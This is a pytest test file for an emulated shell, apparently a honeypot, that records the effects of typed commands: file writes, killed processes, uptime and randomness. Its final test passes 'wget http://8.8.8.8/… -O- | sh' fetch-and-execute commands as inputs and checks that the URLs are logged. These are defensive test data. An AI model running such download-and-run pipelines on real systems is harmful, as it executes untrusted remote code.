# SPDX-License-Identifier: Apache-2.0
"""What the machine keeps: effects, chance, time."""

from __future__ import annotations

import pytest

from mead.shell import FileWritten, Offer, Ran, Shell


def test_chance_belongs_to_the_session(shell: Shell) -> None:
    assert shell.machine.random(16) != shell.machine.random(16)
    assert len(shell.machine.random(1000)) == 1000


def test_uptime_goes_with_the_clock(shell: Shell) -> None:
    first = float(shell.run(b"cat /proc/uptime").output.split()[0])
    assert first == round(shell.machine.uptime(), 2)


def test_commands_without_end_are_noted_up_to_a_number(shell: Shell) -> None:
    reply = shell.run(b"for i in $(seq 3000); do :; done")
    assert sum(isinstance(effect, Ran) for effect in reply.effects) <= 1025


def test_a_file_is_told_before_it_is_gone(shell: Shell) -> None:
    reply = shell.run(b"echo a > /tmp/a; rm /tmp/a; echo b > /tmp/b; echo c > /tmp/b; mv /tmp/b /tmp/d")
    written = [(effect.path, effect.data) for effect in reply.effects if isinstance(effect, FileWritten)]
    assert written == [("/tmp/a", b"a\n"), ("/tmp/b", b"b\n"), ("/tmp/b", b"c\n")]


def test_killed_processes_are_gone(shell: Shell) -> None:
    assert b"telnetd" in shell.run(b"ps").output
    assert shell.run(b"killall telnetd; pidof telnetd; echo $?").output == b"1\n"
    assert b"telnetd" not in shell.run(b"ps").output


@pytest.mark.parametrize(
    ("typed", "noted"),
    [
        (b"http://8.8.8.8/\xc3\xa9.sh", "http://8.8.8.8/é.sh"),
        (b"http://8.8.8.8/\xff\xc3.sh", "http://8.8.8.8/%FF%C3.sh"),
        (b"http://8.8.8.8/%ff.sh", "http://8.8.8.8/%ff.sh"),
    ],
)
def test_a_script_behind_any_url_is_followed(shell: Shell, typed: bytes, noted: str) -> None:
    offers = [
        effect.url
        for effect in shell.run(b"wget " + typed + b" -O- | sh").effects
        if isinstance(effect, Offer)
    ]
    assert offers == [noted]
    reply = shell.deliver(noted, b"wget http://8.8.8.8/next\n")
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://8.8.8.8/next"]
